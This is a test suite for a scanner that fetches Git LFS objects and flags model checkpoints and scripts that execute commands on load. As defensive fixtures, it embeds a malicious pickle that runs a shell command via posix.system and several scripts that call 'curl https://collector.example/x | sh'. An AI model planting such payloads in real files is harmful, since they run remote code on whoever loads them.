"""Checkpoints in Git LFS, from a real repository through real workers to the reports."""

import hashlib
import json
import pickle
import time
import zipfile
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path

import pytest

from scanner import pipeline
from scanner.config import build
from scanner.finding import Verdict
from scanner.report import Scan, sarif, summary, text
from tests.collect.lfs import objects
from tests.collect.lfs.objects import Store, storing
from tests.fakes import Asked, Reply
from tests.recipes import sparse
from tests.recipes.git import clone, commit, git, new, write

BAD = b"cposix\nsystem\n(S'echo poisoned'\ntR."
HONEST = pickle.dumps({"weights": [1.0] * 9})


def checkpoint(payload: bytes, tensors: int, size: int) -> bytes:
    """What torch.save writes: a pickle and stored tensors, of ``size`` bytes each, in a ZIP archive."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", payload)
        archive.writestr("archive/version", b"3\n")
        for number in range(tensors):
            archive.writestr(f"archive/data/{number}", bytes(size))
    return file.getvalue()


@pytest.fixture
def store(monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    monkeypatch.setattr("scanner.http._PAUSES", ())
    with storing() as fake:
        yield fake


@pytest.fixture
def repo(tmp_path: Path, store: Store, monkeypatch: pytest.MonkeyPatch) -> Path:
    place = new(tmp_path / "repo")
    commit(place, {"README": b"r"})
    git(place, "config", "lfs.url", store.url)
    monkeypatch.chdir(place)
    return place


def scan(**options: object) -> Scan:
    return pipeline.scan(build(**{"base": "HEAD^", "head": "HEAD", **options}))  # type: ignore[arg-type]


def verdicts(result: Scan) -> dict[str, Verdict]:
    return {report.path: report.verdict for report in result.reports}


def test_what_a_pointer_stands_for_is_what_counts(repo: Path, store: Store) -> None:
    for content in (BAD, HONEST):
        store.add(content)
    commit(repo, {"bad.pkl": objects.text(BAD), "honest.pkl": objects.text(HONEST), "plain.pkl": HONEST})
    result = scan()
    assert verdicts(result) == {
        "bad.pkl": Verdict.BLOCKED,
        "honest.pkl": Verdict.CLEAN,
        "plain.pkl": Verdict.CLEAN,
    }
    assert result.exit_code == 1
    cost = f"of 2 objects with {len(BAD) + len(HONEST):,} bytes, {len(BAD) + len(HONEST):,} bytes were transferred"
    assert cost in summary.render(result) and cost in text.render(result)
    assert [asked.method for asked in store.asked] == ["POST", "GET", "GET"]


def far_away(repo: Path, store: Store, place: Path) -> None:
    """Commit a pointer to what is in the file ``place``, and serve that."""
    size = place.stat().st_size
    oid = hashlib.sha256(str(place).encode()).hexdigest()  # a scan that reads parts cannot tell
    store.objects[oid] = b""

    def serve(asked: Asked) -> Reply:
        first, last = map(int, asked.headers["Range"].removeprefix("bytes=").split("-"))
        with place.open("rb") as file:
            file.seek(first)
            data = file.read(last + 1 - first)
        return Reply(206, data, {"Content-Range": f"bytes {first}-{last}/{size}"})

    store.serve = serve
    text = f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {size}\n"
    commit(repo, {place.name: text.encode()})


@pytest.mark.parametrize("payload", [BAD, HONEST])
def test_a_checkpoint_of_gigabytes_costs_kilobytes(
    repo: Path, store: Store, tmp_path: Path, payload: bytes
) -> None:
    """Three hundred tensors: one small request for each, and the directory."""
    large = tmp_path / "large.pt"
    sparse.torch_zip(large, payload, tensors=300, size=10_500_000)
    far_away(repo, store, large)
    result = scan()
    (report,) = result.reports
    assert report.size == large.stat().st_size > 3_150_000_000
    told = result.notices[-1].message
    transferred = int(told.split("bytes, ")[1].split(" ")[0].replace(",", ""))
    assert 0 < transferred < 1_000_000
    assert sum(asked.method == "GET" for asked in store.asked) < 400
    assert store.server is not None
    assert store.server.connections == 2  # one to ask where it is, one for all that is read
    here = pipeline.scan(build(paths=[str(large)]))
    assert [(f.rule, f.message) for f in here.findings] == [(f.rule, f.message) for f in report.findings]
    assert report.verdict is (Verdict.BLOCKED if payload is BAD else Verdict.CLEAN)


def test_what_cannot_be_fetched_is_a_finding(repo: Path, store: Store) -> None:
    commit(repo, {"gone.pkl": objects.text(BAD), "x/gone.data": objects.text(HONEST)})
    result = scan()
    assert verdicts(result) == {"gone.pkl": Verdict.UNSCANNED, "x/gone.data": Verdict.UNSCANNED}
    for finding in result.findings:
        assert finding.rule == "unscanned-artifact"
        assert (
            "Git LFS pointer (sha256 " in finding.message and "has not pushed the object" in finding.message
        )


@pytest.mark.parametrize(
    ("reply", "says"),
    [
        (Reply(509, {"message": "quota"}), "bandwidth"),
        (
            Reply(206, b"x" * len(BAD), {"Content-Range": f"bytes 0-{len(BAD) - 1}/{len(BAD)}"}),
            "another SHA-256",
        ),
        (Reply(500), "HTTP 500"),
    ],
)
def test_what_breaks_off_while_it_is_read_is_a_finding(
    repo: Path, store: Store, reply: Reply, says: str
) -> None:
    store.add(BAD)
    store.serve = lambda asked: reply
    commit(repo, {"bad.pkl": objects.text(BAD)})
    (report,) = scan().reports
    assert report.failure is None
    assert {finding.rule for finding in report.findings} == {"incomplete-analysis"}
    assert says in report.findings[0].message
    assert report.verdict is not Verdict.CLEAN


def test_waiting_for_the_network_is_not_held_against_the_file(repo: Path, store: Store) -> None:
    content = checkpoint(BAD, tensors=1, size=1 << 20)
    store.add(content)

    def slowly(asked: Asked) -> Reply:
        time.sleep(3)
        return store.send(asked)

    store.serve = slowly
    commit(repo, {"large.pt": objects.text(content)})
    result = scan(seconds=8)
    assert sum(asked.method == "GET" for asked in store.asked) > 2
    assert {finding.rule for finding in result.findings} == {"command-on-load"}


def test_a_network_that_is_too_slow_is_named(
    repo: Path, store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("scanner.collect.lfs.remote.PATIENCE", -1.0)
    store.add(BAD)
    commit(repo, {"bad.pkl": objects.text(BAD)})
    (report,) = scan().reports
    assert report.failure is None
    (finding,) = report.findings
    assert finding.rule == "incomplete-analysis"
    assert "the network is too slow" in finding.message
    assert report.verdict is not Verdict.CLEAN


def test_what_is_taken_on_the_servers_word_is_told(repo: Path, store: Store) -> None:
    content = checkpoint(BAD, tensors=1, size=1 << 20)
    for each in (content, BAD):
        store.add(each)
    commit(repo, {"large.pt": objects.text(content), "bad.pkl": objects.text(BAD)})
    told = "; the SHA-256 of 1 object, read in part, is taken on the server's word"
    assert scan().notices[-1].message.endswith(told)


def test_results_are_filed_on_the_line_that_a_change_of_the_object_touches(repo: Path, store: Store) -> None:
    script = b"import os\n\n\n\nos.system('curl https://collector.example/x | sh')\n"
    for content in (BAD, script):
        store.add(content)
    files = {"bad.pkl": objects.text(BAD), "x/load.py": objects.text(script), "plain.py": script}
    commit(repo, files)
    lines = set()
    for found in json.loads(sarif.render(scan()))["runs"][0]["results"]:
        flows = [
            step["location"] for flow in found["codeFlows"] for step in flow["threadFlows"][0]["locations"]
        ]
        for place in (*found["locations"], *flows):
            physical = place["physicalLocation"]
            lines.add((physical["artifactLocation"]["uri"], physical["region"]["startLine"]))
            assert physical["region"].get("endLine", 9) >= physical["region"]["startLine"]
    assert {line for path, line in lines if path != "plain.py"} == {2}
    assert ("plain.py", 5) in lines


def test_a_file_that_only_resembles_a_pointer_is_scanned_as_it_is(repo: Path, store: Store) -> None:
    commit(repo, {"load.py": objects.text(HONEST) + b"import os\n"})
    (report,) = scan().reports
    assert report.verdict is not Verdict.CLEAN
    assert store.asked == []


def test_never_means_that_nobody_is_asked(repo: Path, store: Store) -> None:
    store.add(BAD)
    commit(repo, {"bad.pkl": objects.text(BAD)})
    result = scan(lfs="never")
    assert verdicts(result) == {"bad.pkl": Verdict.UNSCANNED}
    assert store.asked == []


@pytest.mark.parametrize("where", ["store", "tree"])
def test_what_is_here_is_not_fetched_if_it_is_the_right_one(repo: Path, store: Store, where: str) -> None:
    store.add(BAD)
    oid = objects.pointer(BAD).oid
    commit(repo, {"bad.pkl": objects.text(BAD)})
    place = {"store": f".git/lfs/objects/{oid[:2]}/{oid[2:4]}/{oid}", "tree": "bad.pkl"}[where]
    write(repo, {place: BAD})
    assert verdicts(scan()) == {"bad.pkl": Verdict.BLOCKED}
    assert store.asked == []
    write(repo, {place: b"x" * len(BAD)})  # right in length only
    assert verdicts(scan()) == {"bad.pkl": Verdict.BLOCKED}
    assert len(store.asked) == 2


def test_files_on_disk_are_looked_up_in_the_clone_and_nowhere_else(repo: Path, store: Store) -> None:
    store.add(BAD)
    oid = objects.pointer(BAD).oid
    write(repo, {"bad.pkl": objects.text(BAD)})
    result = pipeline.scan(build(paths=["bad.pkl"]))
    assert verdicts(result) == {"bad.pkl": Verdict.UNSCANNED}
    assert "git lfs pull" in result.findings[0].message
    write(repo, {f".git/lfs/objects/{oid[:2]}/{oid[2:4]}/{oid}": BAD})
    assert verdicts(pipeline.scan(build(paths=["bad.pkl"]))) == {"bad.pkl": Verdict.BLOCKED}
    assert store.asked == []


def test_the_changes_own_lfsconfig_sends_us_nowhere(repo: Path, store: Store) -> None:
    git(repo, "config", "--unset", "lfs.url")
    store.add(BAD)
    commit(repo, {"bad.pkl": objects.text(BAD), ".lfsconfig": f"[lfs]\n\turl = {store.url}\n".encode()})
    assert verdicts(scan())["bad.pkl"] is Verdict.UNSCANNED
    assert store.asked == []
    commit(repo, {"more.pkl": objects.text(BAD)})
    assert verdicts(scan()) == {"more.pkl": Verdict.BLOCKED}


def test_an_earlier_version_in_lfs_is_compared(repo: Path, store: Store) -> None:
    longer = BAD + b"trailing"
    for content in (BAD, longer):
        store.add(content)
    commit(repo, {"bad.pkl": objects.text(BAD)})
    commit(repo, {"bad.pkl": objects.text(longer)})
    result = scan()
    assert {f.existing for f in result.findings if f.rule == "command-on-load"} == {"bad.pkl"}
    commit(repo, {"bad.pkl": longer})  # out of LFS, and the same
    assert {f.existing for f in scan().findings} == {"bad.pkl"}


def test_a_suppression_is_for_the_object_and_not_for_the_pointer(repo: Path, store: Store) -> None:
    store.add(BAD)
    entry = (
        '[[suppress]]\nrule = "command-on-load"\npath = "bad.pkl"\nreason = "fixture"\nexpires = 9999-12-31\n'
        f'sha256 = "{objects.pointer(BAD).oid}"\n'
    )
    commit(repo, {"modelgate.toml": entry.encode()})
    commit(repo, {"bad.pkl": objects.text(BAD)})
    result = scan()
    assert (result.exit_code, len(result.accepted)) == (0, 1)
    assert sum(asked.method == "GET" for asked in store.asked) == 1


def test_scripts_in_lfs_have_their_lines_told(repo: Path, store: Store) -> None:
    script = b"import os\n\nos.system('curl https://collector.example/x | sh')\n"
    store.add(script)
    commit(repo, {"load.py": objects.text(script)})
    result = scan()
    assert verdicts(result) == {"load.py": Verdict.BLOCKED}
    assert result.text_of("load.py") == script.decode()


def test_at_depth_1_with_pointers_in_the_work_tree(
    repo: Path, store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What actions/checkout leaves without `lfs: true`."""
    store.add(BAD)
    base = git(repo, "rev-parse", "HEAD")
    commit(
        repo, {"bad.pkl": objects.text(BAD), ".gitattributes": b"*.pkl filter=lfs diff=lfs merge=lfs -text\n"}
    )
    here = clone(repo, tmp_path / "ci")
    git(here, "config", "lfs.url", store.url)
    monkeypatch.chdir(here)
    assert verdicts(scan(base=base))["bad.pkl"] is Verdict.BLOCKED
    assert json.dumps(str(store.asked[0].body["operation"])) == '"download"'


HELPER = b"import os\n\n\ndef fetch():\n    os.system('curl https://collector.example/x | sh')\n"
IMPORTING = b"from helper import fetch\n\nfetch()\n"


def test_a_file_beside_that_is_in_lfs_is_followed(repo: Path, store: Store) -> None:
    store.add(HELPER)
    commit(repo, {"helper.py": objects.text(HELPER)})
    commit(repo, {"load.py": IMPORTING, "again.py": IMPORTING})
    assert verdicts(scan()) == {"load.py": Verdict.BLOCKED, "again.py": Verdict.BLOCKED}
    assert sum(asked.method == "POST" for asked in store.asked) == 1


def test_a_file_beside_that_cannot_be_had_is_told(repo: Path, store: Store) -> None:
    commit(repo, {"helper.py": objects.text(HELPER)})
    commit(repo, {"load.py": IMPORTING})
    result = scan()
    (told,) = (notice for notice in result.notices if notice.path == "helper.py")
    assert "has not pushed the object" in told.message
    assert "has not pushed the object" in summary.render(result)


def test_a_file_beside_that_is_too_large_is_not_read_in_part(repo: Path, store: Store) -> None:
    large = HELPER + b"#" * (1 << 20)
    store.add(large)
    commit(repo, {"helper.py": objects.text(large)})
    commit(repo, {"load.py": IMPORTING})
    (report,) = scan().reports
    assert (report.failure, report.verdict) == (None, Verdict.CLEAN)
